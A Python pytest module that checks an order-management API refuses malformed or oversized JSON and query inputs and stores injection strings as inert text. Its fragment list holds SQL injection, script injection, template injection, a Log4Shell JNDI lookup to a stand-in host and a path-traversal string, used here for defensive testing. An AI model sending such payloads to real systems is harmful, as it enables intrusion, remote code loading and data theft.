"""Hostile input against a real server process: deeply nested JSON, huge arrays, 10 MB bodies, invalid
UTF-8, NUL bytes, numbers beyond 64 bits, duplicate keys, strings of 100k characters. Each is refused
with a clear 4xx problem, nothing is stored (the list totals and the resources sent to do not change),
and the server stays healthy (it answers /health, logs no unexpected error, and still accepts a valid
request). SQL and script fragments in valid strings are stored and returned verbatim, found by exact
and substring filters as plain text, and never interpreted."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest

from tests.cli.served import Served
from tests.e2e.api import OPERATOR_KEY, World, check_shape, patient_body, world
from tests.reliability.figures import Tally, record
from tests.reliability.service import DATABASES, database_url, serve

MIB = 1024 * 1024
DEPTH = 100_000
LONG = 100_000
BEYOND_64_BITS = 2**64


class Target(msgspec.Struct, kw_only=True):
    server: Served
    http: httpx.Client
    w: World
    order: int


@pytest.fixture(scope="module", params=DATABASES)
def target(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """One real server (one worker) per store, with a small world and one order."""
    folder = tmp_path_factory.mktemp(f"hostile-{request.param}")
    with database_url(request.param, folder) as url, serve(url, folder) as server, server.client() as http:
        w = world(http)
        order = w.a.api.made("/api/v3/order", w.order(w.a))["id"]
        yield Target(server=server, http=http, w=w, order=order)


class Endpoint(msgspec.Struct, kw_only=True):
    """A request that writes, with a valid body, the path of a required string field and of a
    numeric (or other non-string) field in it, and how to read back what it would change."""

    method: str
    path: str
    operator: bool = False
    body: dict[str, Any]
    text: str
    number: str


def _endpoints(t: Target) -> list[Endpoint]:
    w = t.w
    kit = {"name": "Kit", "kitItems": [{"item": {"id": w.item}, "count": 1}]}
    order = w.order(w.a, orderNotes=[{"note": "n"}])
    return [
        Endpoint(method="POST", path="/api/v3/patient", body=patient_body(site={"id": w.a.site}),
                 text="firstName", number="site.id"),
        Endpoint(method="PUT", path=f"/api/v3/patient/{w.a.patient}", body=patient_body(site={"id": w.a.site}),
                 text="lastName", number="site.id"),
        Endpoint(method="POST", path="/api/v3/site", body={"name": "Clinic"}, text="name", number="active"),
        Endpoint(method="PATCH", path=f"/api/v3/site/{w.a.site}", body={"name": "Renamed"}, text="name",
                 number="active"),
        Endpoint(method="POST", path="/api/v3/kit", body=kit, text="name", number="kitItems[0].count"),
        Endpoint(method="POST", path="/api/v3/order", body=order, text="orderNotes[0].note",
                 number="orderItems[0].count"),
        Endpoint(method="POST", path="/api/v3/item", operator=True, body={"name": "N", "sku": "S", "manufacturer": {"id": 1}},
                 text="sku", number="manufacturer.id"),
        Endpoint(method="POST", path=f"/api/v3/admin/order/{t.order}/status", operator=True,
                 body={"status": "processing", "trackingNumber": {"carrier": "UPS", "value": "1Z"}},
                 text="trackingNumber.carrier", number="trackingNumber.value"),
    ]


_STEP = re.compile(r"([^.\[\]]+)|\[(\d+)\]")


def _set(body: Any, path: str, value: Any) -> Any:
    """A deep copy of ``body`` with the value at ``path`` (``a.b[0].c``) replaced."""
    copy = json.loads(json.dumps(body))
    steps = [int(index) if index else name for name, index in _STEP.findall(path)]
    node = copy
    for step in steps[:-1]:
        node = node[step]
    node[steps[-1]] = value
    return copy


_HOLE = "\u2603HOLE\u2603"


def _with_raw(body: Any, path: str, raw: bytes) -> bytes:
    """``body`` as JSON with the value at ``path`` replaced by the bytes ``raw``, as they are."""
    return json.dumps(_set(body, path, _HOLE)).encode().replace(json.dumps(_HOLE).encode(), raw)


def _duplicate_key(body: dict[str, Any], field: str) -> bytes:
    """``body`` as JSON, then ``field`` once more with another value: a duplicate key."""
    top = field.split(".")[0].split("[")[0]
    text = json.dumps(body)
    return (text[:-1] + f', {json.dumps(top)}: {json.dumps(body[top])}' + "}").encode()


HOSTILE: list[tuple[str, Callable[[Endpoint], bytes], int]] = [
    ("10 MB body", lambda e: json.dumps({**e.body, "pad": "x" * (10 * MIB)}).encode(), 413),
    ("deeply nested JSON", lambda e: b"[" * DEPTH + b"]" * DEPTH, 400),
    ("deeply nested JSON in a field", lambda e: _with_raw(e.body, e.text, b"[" * DEPTH + b"]" * DEPTH), 400),
    ("deeply nested JSON in an unknown field", lambda e: _with_raw({**e.body, "x": 0}, "x", b"{\"a\":" * DEPTH + b"1" + b"}" * DEPTH), 400),
    ("huge array", lambda e: json.dumps([0] * 200_000).encode(), 400),
    ("huge array in a field", lambda e: json.dumps(_set(e.body, e.text, ["x"] * 200_000)).encode(), 400),
    ("invalid UTF-8 in a string", lambda e: _with_raw(e.body, e.text, b'"\xc3\x28\xff"'), 400),
    ("invalid UTF-8 outside strings", lambda e: b"\xff\xfe" + json.dumps(e.body).encode(), 400),
    ("NUL byte before the body", lambda e: b"\x00" + json.dumps(e.body).encode(), 400),
    ("NUL byte after the body", lambda e: json.dumps(e.body).encode() + b"\x00", 400),
    ("raw NUL byte inside a string", lambda e: _with_raw(e.body, e.text, b'"a\x00b"'), 400),
    ("integer beyond 64 bits", lambda e: json.dumps(_set(e.body, e.number, BEYOND_64_BITS)).encode(), 400),
    ("integer of 400 digits", lambda e: _with_raw(e.body, e.number, b"9" * 400), 400),
    ("number beyond float range", lambda e: _with_raw(e.body, e.number, b"1e400"), 400),
    ("duplicate keys", lambda e: _duplicate_key(e.body, e.text), 400),
    ("string of 100k characters", lambda e: json.dumps(_set(e.body, e.text, "x" * LONG)).encode(), 400),
    ("lone surrogate escape", lambda e: _with_raw(e.body, e.text, b'"\\ud800"'), 400),
    ("truncated JSON", lambda e: json.dumps(e.body).encode()[:-3], 400),
    ("empty body", lambda e: b"", 400),
    ("JSON null", lambda e: b"null", 400),
]


def _counts(t: Target) -> dict[str, Any]:
    """What a hostile request must not change: every list total, and the resources written in place."""
    a, op = t.w.a.api, t.w.operator
    counts: dict[str, Any] = {
        path: a.get(f"/api/v3/{path}").json()["total"] for path in ("patient", "site", "kit", "order")
    }
    counts["item"] = op.get("/api/v3/item").json()["total"]
    counts["patient/a"] = a.get(f"/api/v3/patient/{t.w.a.patient}").json()
    counts["site/a"] = a.get(f"/api/v3/site/{t.w.a.site}").json()
    counts["order/a"] = a.get(f"/api/v3/order/{t.order}").json()
    return counts


def _healthy(t: Target) -> None:
    assert t.server.process.poll() is None, "the server died"
    assert t.http.get("/health").status_code == 200


def _unexpected(server: Served) -> list[str]:
    return [line for line in server.out + server.err if "unexpected error" in line or "Traceback" in line]


def _send(t: Target, endpoint: Endpoint, content: bytes | Iterator[bytes], tally: Tally) -> httpx.Response:
    key = OPERATOR_KEY if endpoint.operator else t.w.a.key
    headers = {"Impilo-API-Key": key, "Content-Type": "application/json", "Idempotency-Key": f"h-{tally.sent}"}
    response = t.http.request(endpoint.method, endpoint.path, content=content, headers=headers)
    return tally.count(response)  # type: ignore[return-value]


def test_hostile_bodies_are_refused_store_nothing_and_leave_the_server_healthy(
    target: Target, request: pytest.FixtureRequest
) -> None:
    tally = Tally()
    failures: list[str] = []
    before = _counts(target)
    endpoints = _endpoints(target)
    for name, make, status in HOSTILE:
        for endpoint in endpoints:
            response = _send(target, endpoint, make(endpoint), tally)
            try:
                check_shape(response)
                assert response.status_code == status, f"expected {status}"
                if status == 413:
                    assert response.json()["code"] == "payload_too_large"
                else:
                    assert response.json()["code"] == "validation_error"
            except AssertionError as error:
                failures.append(f"{name}: {endpoint.method} {endpoint.path} -> {response.status_code} "
                                f"{response.text[:200]} ({str(error).splitlines()[0]})")
            _healthy(target)
    chunks = (b"x" * MIB for _ in range(10))  # 10 MB without a Content-Length: refused all the same
    chunked = _send(target, endpoints[0], chunks, tally)
    if chunked.status_code != 413:
        failures.append(f"10 MB chunked body -> {chunked.status_code} {chunked.text[:300]}")
    assert not failures, "\n".join(failures)
    assert _counts(target) == before, "a refused request stored something"
    assert not _unexpected(target.server)
    assert target.w.a.api.post("/api/v3/site", {"name": "Still fine"}).status_code == 201
    _healthy(target)
    record(request, f"hostile-bodies[{request.node.callspec.id}]", requests=tally.sent, failures=len(failures),
           by_status=tally.summary(), kinds=len(HOSTILE) + 1, endpoints=len(endpoints),
           checked="every answer a 4xx problem of the expected code; list totals and the patient, site "
                   "and order written to unchanged; /health after every request; no unexpected error logged")


FRAGMENTS = [
    "Robert'); DROP TABLE patients;--",
    "' OR '1'='1' --",
    "1; SELECT * FROM api_keys; --",
    '" OR ""="',
    "x' UNION SELECT digest FROM api_keys --",
    "<script>alert('kitflow')</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}} ${7*7} #{7*7} %s %n %x",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "100% _match_ \\ [a-z]*",
    "NEAR(a b) OR c* AND \"d\"",
    "nul\u0000inside",
    "\u202eright-to-left\u202c",
    "😀 Ångström Straße ﬁ",
    "\\u0041 \\n \\\\",
]


def test_sql_and_script_fragments_are_stored_and_returned_verbatim(target: Target, request: pytest.FixtureRequest) -> None:
    a = target.w.a.api
    tally = Tally()
    made: dict[str, int] = {}
    for fragment in FRAGMENTS:
        body = patient_body(firstName=fragment, lastName=fragment, externalIdentifier=f"frag {fragment}",
                            address={**patient_body()["address"], "note": fragment})
        response = tally.count(a.post("/api/v3/patient", body))
        assert response is not None and response.status_code == 201, (fragment, response.text if response else None)
        patient = response.json()
        assert (patient["firstName"], patient["lastName"], patient["address"]["note"]) == (fragment,) * 3
        made[fragment] = patient["id"]
        site = tally.count(a.post("/api/v3/site", {"name": fragment}))
        assert site is not None and site.status_code == 201 and site.json()["name"] == fragment
        order = tally.count(a.post("/api/v3/order", target.w.order(
            target.w.a, externalOrderIds=[fragment], orderNotes=[{"note": fragment}])))
        assert order is not None and order.status_code == 201, order.text if order else None
        assert order.json()["externalOrderIds"] == [fragment] and order.json()["orderNotes"][0]["note"] == fragment
    everyone = {p["id"]: p for p in a.get("/api/v3/patient", params={"size": 250}).json()["content"]}
    for fragment, patient_id in made.items():
        fetched = tally.count(a.get(f"/api/v3/patient/{patient_id}"))
        assert fetched is not None and fetched.json()["lastName"] == fragment
        exact = tally.count(a.get("/api/v3/patient", params={"externalIdentifier": f"frag {fragment}"}))
        assert exact is not None and [p["id"] for p in exact.json()["content"]] == [patient_id]
        by_name = tally.count(a.get("/api/v3/patient", params={"name": fragment, "size": 250}))
        assert by_name is not None and by_name.status_code == 200, by_name.text if by_name else None
        expected = {pid for pid, p in everyone.items()
                    if fragment.strip().casefold() in f"{p['firstName']} {p['lastName']}".casefold()}
        assert {p["id"] for p in by_name.json()["content"]} == expected, fragment
        by_id = tally.count(a.get("/api/v3/order", params={"externalOrderId": fragment}))
        assert by_id is not None and by_id.json()["total"] == 1, fragment
    for wildcard in ("%", "_", "*", '"', "'", "\\"):
        found = tally.count(a.get("/api/v3/patient", params={"name": wildcard, "size": 250}))
        assert found is not None
        expected = {pid for pid, p in everyone.items() if wildcard in f"{p['firstName']} {p['lastName']}"}
        assert {p["id"] for p in found.json()["content"]} == expected, wildcard
    assert a.get("/api/v3/patient").json()["total"] == len(everyone)  # the tables are all there
    assert tally.server_errors == 0 and not _unexpected(target.server)
    record(request, f"verbatim-fragments[{request.node.callspec.id}]", requests=tally.sent, failures=0,
           by_status=tally.summary(), fragments=len(FRAGMENTS),
           checked="each fragment stored in patient, address, site, order id and note; read back "
                   "byte for byte; exact and substring filters match it as plain text")


HOSTILE_QUERIES: list[tuple[str, str, dict[str, str]]] = [
    ("name with a NUL", "/api/v3/patient", {"name": "x\x00y"}),
    ("site name with a NUL", "/api/v3/site", {"name": "nul\x00inside"}),
    ("name of 30k characters", "/api/v3/patient", {"name": "n" * 30_000}),
    ("full-text query syntax", "/api/v3/site", {"name": '" OR NEAR(a b) *'}),
    ("id beyond 64 bits", "/api/v3/order", {"patientId": str(BEYOND_64_BITS)}),
    ("page beyond 64 bits", "/api/v3/order", {"page": str(BEYOND_64_BITS)}),
    ("page whose offset passes 64 bits", "/api/v3/order", {"page": str(2**62), "size": "250"}),
    ("negative size", "/api/v3/order", {"size": "-1"}),
    ("size of 400 digits", "/api/v3/order", {"size": "9" * 400}),
    ("timestamp at the end of time", "/api/v3/order", {"createdFrom": "9999-12-31T23:59:59-05:00"}),
    ("timestamp at the start of time", "/api/v3/order", {"createdTo": "0001-01-01T00:00:00+05:00"}),
    ("timestamp with a 99-hour offset", "/api/v3/order", {"createdFrom": "2026-01-01T00:00:00+99:00"}),
    ("status that is SQL", "/api/v3/order", {"status": "received' OR '1'='1"}),
    ("tampered cursor", "/api/v3/order", {"cursor": "eyJ" + "A" * 5000}),
    ("boolean that is not", "/api/v3/patient", {"archived": "1"}),
]


def test_hostile_queries_answer_a_page_or_a_clear_400(target: Target, request: pytest.FixtureRequest) -> None:
    a = target.w.a.api
    tally = Tally()
    failures = []
    for name, path, params in HOSTILE_QUERIES:
        response = tally.count(target.http.get(path, params=params, headers={"Impilo-API-Key": target.w.a.key}))
        assert response is not None
        try:
            check_shape(response)
            assert response.status_code in (200, 400)
            if response.status_code == 400:
                assert response.json()["code"] == "validation_error"
        except AssertionError as error:
            failures.append(f"{name}: {response.status_code} {response.text[:200]} ({str(error).splitlines()[0]})")
    for raw in ("/api/v3/patient?name=%FF%FE", "/api/v3/patient?name=%ED%A0%80", "/api/v3/order?id=%00"):
        response = tally.count(target.http.get(raw, headers={"Impilo-API-Key": target.w.a.key}))
        assert response is not None
        if response.status_code not in (200, 400) or response.headers["content-type"] not in (
                "application/json", "application/problem+json"):
            failures.append(f"{raw}: {response.status_code} {response.text[:300]}")
    assert not failures, "\n".join(failures)
    assert not _unexpected(target.server)
    _healthy(target)
    assert a.get("/api/v3/order").status_code == 200
    record(request, f"hostile-queries[{request.node.callspec.id}]", requests=tally.sent, failures=len(failures),
           by_status=tally.summary(), checked="every answer a page or a 400 validation_error problem")
